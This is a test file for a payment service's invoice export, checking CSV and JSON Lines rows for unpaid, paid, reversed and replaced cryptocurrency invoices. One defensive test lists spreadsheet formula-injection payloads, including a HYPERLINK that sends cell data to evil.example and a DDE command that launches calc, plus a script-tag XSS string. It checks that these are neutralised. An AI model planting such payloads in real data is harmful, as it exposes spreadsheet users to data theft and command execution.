import assert from 'node:assert/strict'
import { test } from 'node:test'
import { hour } from '../../src/kernel/clock.ts'
import { computeCoinAmount, formatCoins, parseDecimal, toBaseUnits } from '../../src/kernel/money.ts'
import { getRows, readCsv } from '../helpers/csv.ts'
import { fileScope } from '../helpers/databases.ts'
import { startExporting } from '../helpers/invoice-exports.ts'
import { startPaying } from '../helpers/paying.ts'
import { type Service, startService } from '../helpers/service.ts'
import { until } from '../helpers/until.ts'

const service = await startExporting(fileScope)
const { clock, table, lines, list, createMerchantWithInvoices, request } = service

const unpaid = {
  paid_at: '',
  coin: '',
  coin_amount: '',
  rate: '',
  rate_sources: '',
  network_fee: '',
  txid: '',
  confirmations: '',
}

/** ceil(amount / rate) in integer arithmetic, independent of the service's code. */
function coinsFor(amount: string, rate: string): string {
  const [fiat, per] = [parseDecimal(amount) ?? assert.fail(), parseDecimal(rate) ?? assert.fail()]
  return formatCoins(computeCoinAmount(fiat, per))
}

test('an unpaid invoice is a row with the merchant’s fields, and empty payment cells', async () => {
  const fields = {
    amount: 1234.5,
    currency: 'EUR',
    external_id: 'order 7',
    business_id: 'b',
    location_id: 'l',
    register_id: 'r',
    memo: 'two cups',
    metadata: { table: '17', guest: 'Ödön' },
  }
  const { uids, token } = await createMerchantWithInvoices('unpaid', [fields])
  assert.deepEqual(await table('', token), [
    {
      ...unpaid,
      uid: uids[0],
      created_at: new Date(clock.now()).toISOString(),
      status: 'unpaid',
      amount: '1234.5',
      currency: 'EUR',
      external_id: 'order 7',
      business_id: 'b',
      location_id: 'l',
      register_id: 'r',
      memo: 'two cups',
      metadata: '{"table":"17","guest":"Ödön"}',
    },
  ])
})

test('missing fields are empty cells', async () => {
  const { uids, token } = await createMerchantWithInvoices('bare', [{}])
  const { text } = await request('/invoices.csv', { token })
  const created = new Date(clock.now()).toISOString()
  assert.equal(text.split('\r\n')[1], `${uids[0]},${created},,unpaid,12.5,USD${','.repeat(13)}`)
})

test('a cancelled and an expired invoice are rows without a payment', async () => {
  const { uids, token } = await createMerchantWithInvoices('ended', [
    { memo: 'expired', expires_in: 60 },
    { memo: 'cancelled' },
  ])
  await request(`/invoices/${uids[1]}`, { method: 'DELETE', token })
  clock.advance(hour)
  await until(async () => (await table('status=expired', token)).length === 1)
  const rows = await table('', token)
  assert.deepEqual(
    rows.map(({ memo, status }) => [memo, status]),
    [
      ['cancelled', 'cancelled'],
      ['expired', 'expired'],
    ],
  )
  for (const row of rows) assert.partialDeepStrictEqual(row, unpaid)
})

test('a paid invoice has the coin, the exact amounts, rate and source, fee, txid and confirmations of its payment', async (t) => {
  const rates = { 'LTC/USD': '80.5', 'DOGE/EUR': '0.123456789', 'BCH/JPY': '65001', 'BTC/USD': '50000' }
  const expectedRates = Object.entries(rates).map(([pair, rate]) => `${pair}=${rate}`)
  const paying = await startPaying(t, { settings: { RATES: `fixed:${expectedRates.join(',')}` } })
  for (const [amount, currency, coin] of [
    ['12.5', 'USD', 'LTC'],
    ['0.07', 'EUR', 'DOGE'],
    ['99000', 'JPY', 'BCH'],
    ['1000000', 'USD', 'BTC'],
  ] as const) {
    const { invoice } = await paying.createInvoice({ amount: Number(amount), currency })
    const { signed, template } = await paying.pay(invoice.uid, coin)
    const { invoice: paid } = await paying.getInvoice(invoice.uid)
    const [row = {}] = await newest(paying)
    assert.deepEqual(row, {
      uid: invoice.uid,
      created_at: invoice.created_at,
      paid_at: paid.paid_at,
      status: 'paid',
      amount,
      currency,
      coin,
      coin_amount: coinsFor(amount, rates[`${coin}/${currency}` as keyof typeof rates]),
      rate: rates[`${coin}/${currency}` as keyof typeof rates],
      rate_sources: 'fixed',
      network_fee: formatCoins(toBaseUnits(signed.fee)),
      txid: signed.txid,
      confirmations: '0',
      external_id: '',
      business_id: '',
      location_id: '',
      register_id: '',
      memo: '',
      metadata: '',
    })
    assert.equal(row.coin_amount, formatCoins(toBaseUnits(BigInt(template.outputs[0]?.amount ?? 0))))
  }
  await paying.mine('LTC', 3)
  await paying.waitUntilFollowed('LTC')
  const confirmed = (await newest(paying)).find(({ coin }) => coin === 'LTC')
  assert.equal(confirmed?.confirmations, '3')
})

test('a reversed invoice still shows its payment', async (t) => {
  const paying = await startPaying(t)
  const { invoice } = await paying.createInvoice()
  const { signed } = await paying.pay(invoice.uid, 'LTC')
  await paying.mine('LTC')
  await paying.waitUntilFollowed('LTC')
  await paying.rpc('LTC', 'sandbox_reorganise', 1, [signed.txid])
  await until(async () => (await paying.readStatus(invoice.uid)) === 'reversed')
  const { invoice: reversed } = await paying.getInvoice(invoice.uid)
  const [row] = await newest(paying)
  assert.partialDeepStrictEqual(row, {
    status: 'reversed',
    paid_at: reversed.paid_at,
    coin: 'LTC',
    txid: signed.txid,
    confirmations: '0',
    network_fee: formatCoins(toBaseUnits(signed.fee)),
    rate_sources: 'fixed',
  })
})

test('after a replacement the row has the txid of the transaction that paid', async (t) => {
  const paying = await startPaying(t)
  const { invoice } = await paying.createInvoice()
  const { signed } = await paying.pay(invoice.uid, 'LTC')
  const replacement = await paying.rpc('LTC', 'sandbox_replace', signed.txid, true)
  await paying.mine('LTC')
  await paying.waitUntilFollowed('LTC')
  await until(async () => (await newest(paying))[0]?.txid === replacement)
  assert.equal((await paying.getInvoice(invoice.uid)).invoice.payment?.txid, replacement)
})

test('the rate is the one that the payment was verified with, whatever the current rates are', async (t) => {
  const before = await startService(t, { settings: { RATES: 'fixed:LTC/USD=100' }, clock })
  const { invoice } = await before.createInvoice()
  await before.pay(invoice.uid, 'LTC')
  clock.advance(1_000)
  const after = await startService(t, {
    settings: { RATES: 'fixed:LTC/USD=80' },
    clock,
    sharedStorage: before.storage,
  })
  await after.createInvoice()
  const rows = await newest(after)
  assert.deepEqual(
    rows.map(({ status, rate, coin_amount }) => [status, rate, coin_amount]),
    [
      ['unpaid', '', ''],
      ['paid', '100', '0.125'],
    ],
  )
})

test('malicious texts are quoted in CSV, and unchanged in JSON Lines', async () => {
  const hostile = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(1,1)',
    '\t=1',
    '\r=1',
    'line\nbreak, "quoted"\r\n=1',
    ',,,,',
    '"',
    "'already",
    '\u202eabc\u2028\u{1f600}｛',
    '<script>alert(1)</script>',
  ]
  const { token } = await createMerchantWithInvoices(
    'hostile',
    hostile.map((text) => ({
      memo: text,
      external_id: text,
      business_id: text,
      location_id: text,
      register_id: text,
      metadata: { [text]: text },
    })),
  )
  const rows = (await table('', token)).toReversed()
  for (const [index, text] of hostile.entries()) {
    const { memo, external_id, business_id, location_id, register_id, metadata } = rows[index] ?? {}
    const cell = text.replaceAll(/(?<=^|[;\t\r\n])[=+\-@]|^[\t\r]/g, "'$&")
    const texts = [memo, external_id, business_id, location_id, register_id]
    assert.deepEqual(texts, [cell, cell, cell, cell, cell])
    assert.deepEqual(JSON.parse(metadata ?? ''), { [text]: text })
  }
  assert.deepEqual(
    (await lines('', token)).map(({ invoice }) => invoice.memo),
    hostile.toReversed(),
  )
})

test('JSON Lines: each line equals the list’s item', async () => {
  const { token, uids } = await createMerchantWithInvoices('lines', [
    { memo: 'paid', metadata: { a: 'b' } },
    { memo: 'open', external_id: 'x' },
    { memo: 'gone' },
  ])
  await service.pay(uids[0] ?? '', 'LTC')
  await request(`/invoices/${uids[2]}`, { method: 'DELETE', token })
  const { text } = await request('/invoices.jsonl', { token })
  const page = await request('/invoices', { token })
  assert.equal(`{"invoices":[${text.trim().replaceAll('\n', ',')}],"next_cursor":null}`, page.text)
  assert.deepEqual(await lines('', token), (await list('', token)).invoices)
})

test('without invoices CSV has only its header, and JSON Lines is empty', async () => {
  const { token } = await createMerchantWithInvoices('empty', [])
  assert.equal(readCsv((await request('/invoices.csv', { token })).text).length, 1)
  assert.equal((await request('/invoices.jsonl', { token })).text, '')
})

async function newest({ request }: Pick<Service, 'request'>): Promise<Record<string, string>[]> {
  return getRows((await request('/invoices.csv')).text)
}
